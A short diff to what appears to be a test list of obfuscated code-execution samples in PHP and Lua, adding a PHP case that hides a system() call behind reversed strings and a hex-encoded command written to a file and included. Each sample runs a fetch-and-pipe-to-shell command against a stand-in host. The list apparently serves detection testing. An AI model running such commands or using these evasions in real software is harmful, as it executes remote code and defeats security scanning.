@@ -33,6 +33,10 @@ COMMAND = "curl http://files.example/x|sh"
         ("php", f"parse_str('f=system',$o);$o['f']('{COMMAND}');"),
         ("php", f"const F='system';(F)('{COMMAND}');"),
         ("php", f"class K{{static function __callStatic($n,$a){{system($a[0]);}}}}K::x('{COMMAND}');"),
+        (
+            "php",
+            f"file_put_contents('z.php','<?php (strrev(\\'metsys\\'))(hex2bin(\\'{COMMAND.encode().hex()}\\'));');include 'z.php';",
+        ),
         ("lua", f"local t=setmetatable({{}},{{__index=os}}) t.execute('{COMMAND}')"),
         ("lua", f"coroutine.wrap(os.execute)('{COMMAND}')"),
     ],
